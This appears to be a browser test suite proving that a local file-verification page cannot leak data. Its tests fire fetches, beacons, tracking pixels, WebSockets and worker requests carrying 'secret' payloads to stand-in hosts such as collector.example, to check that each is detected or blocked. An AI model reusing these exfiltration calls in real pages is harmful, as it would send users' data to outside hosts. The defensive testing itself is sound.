/** Does the watch see every way out? And is there a way out of the page at all? */
import assert from 'node:assert/strict'
import { choose, controlled, open, verdict, withSettings } from './harness.mjs'
import { uploadIn } from './wire.mjs'

const PORTALS = (t) => [t.portal, t.courtPortal]

/** Waits until the wire has seen a request that `matches`. */
async function seen(t, what, matches) {
  for (let waited = 0; waited < 5000; waited += 50) {
    if (t.wire.seen.some(matches)) return
    await t.page.waitForTimeout(50)
  }
  assert.fail(`the watch did not see ${what}: ${t.wire.seen.map(({ method, url }) => `${method} ${url}`).join(', ')}`)
}

export const wireTests = {
  'the watch sees fetches, beacons, sockets, pixels and workers, and calls each an upload': withSettings(
    { expectUploads: true, bypassCSP: true, quiet: true },
    async (t) => {
      await open(t)
      await controlled(t)
      assert.equal(uploadIn(t.wire.seen, PORTALS(t)), null)
      const ways = {
        'a fetch with a body': [() => void fetch('/', { method: 'POST', body: 'secret' }).catch(() => {}), (r) => r.method === 'POST' && r.body.toString() === 'secret'],
        'a beacon': [() => void navigator.sendBeacon('/portal/site.json', 'secret'), (r) => r.method === 'POST' && r.url.endsWith('site.json')],
        'a query': [() => void fetch('/portal/nothing?data=secret').catch(() => {}), (r) => r.url.endsWith('nothing?data=secret')],
        'a pixel elsewhere': [() => void (new Image().src = 'http://collector.example/p.gif'), (r) => r.url.includes('collector.example')],
        'a socket': [() => void new WebSocket(`ws://${location.host}/live`), (r) => r.method === 'CONNECT' || r.method === 'UPGRADE'],
        'a socket elsewhere': [() => void new WebSocket('ws://sockets.example/live'), (r) => r.url.includes('sockets.example')],
        'TLS elsewhere': [() => void fetch('https://tls.example/').catch(() => {}), (r) => r.method === 'CONNECT' && r.url.startsWith('tls.example')],
        "a worker's fetch": [
          () => void new Worker(URL.createObjectURL(new Blob([`fetch('${location.origin}/w', {method: 'PUT', body: 'secret'})`]))),
          (r) => r.method === 'PUT' && r.url.endsWith('/w'),
        ],
      }
      for (const [what, [act, matches]] of Object.entries(ways)) {
        t.wire.seen.length = 0
        await t.page.evaluate(act)
        await seen(t, what, matches)
        assert.notEqual(uploadIn(t.wire.seen, PORTALS(t)), null, `${what} is not called an upload`)
      }
    },
  ),

  'the policy of the page lets nothing reach another host': withSettings({ quiet: true }, async (t) => {
    await open(t)
    await controlled(t)
    t.wire.seen.length = 0
    const outcome = await t.page.evaluate(async () => {
      const tried = []
      const attempt = async (what, act) => tried.push([what, await act().then(() => 'done', () => 'refused')])
      await attempt('fetch', () => fetch('http://collector.example/', { method: 'POST', body: 'x', mode: 'no-cors' }))
      await attempt('pixel', () => new Promise((resolve, reject) => Object.assign(new Image(), { onload: resolve, onerror: reject, src: 'http://collector.example/p.gif' })))
      await attempt('script', () => import('http://collector.example/x.js'))
      await attempt('eval', async () => new Function('return 1')())
      await attempt('socket', () => new Promise((resolve, reject) => Object.assign(new WebSocket('ws://collector.example/'), { onopen: resolve, onerror: reject })))
      navigator.sendBeacon('http://collector.example/beacon', 'x')
      return tried
    })
    assert.deepEqual(outcome.map(([what, result]) => `${what} ${result}`), ['fetch refused', 'pixel refused', 'script refused', 'eval refused', 'socket refused'])
    await t.page.waitForTimeout(300)
    assert.deepEqual(t.wire.seen.map(({ method, url }) => `${method} ${url}`), [])
  }),

  'nothing is sent while files are verified': async (t) => {
    await open(t)
    await controlled(t)
    await t.page.waitForLoadState('networkidle')
    t.wire.seen.length = 0
    for (const files of [[t.cert], [t.contract, t.proof], [t.proof]]) {
      await choose(t, ...files)
      await verdict(t, files[0] === t.cert ? 'VALID' : 'VALID-UNANCHORED')
      await t.page.getByRole('button', { name: '核验其他文件' }).click()
    }
    await choose(t, t.tampered[0])
    await verdict(t, 'INVALID')
    await t.page.waitForTimeout(500)
    assert.deepEqual(t.wire.seen.map(({ method, url }) => `${method} ${url}`), [])
  },
}
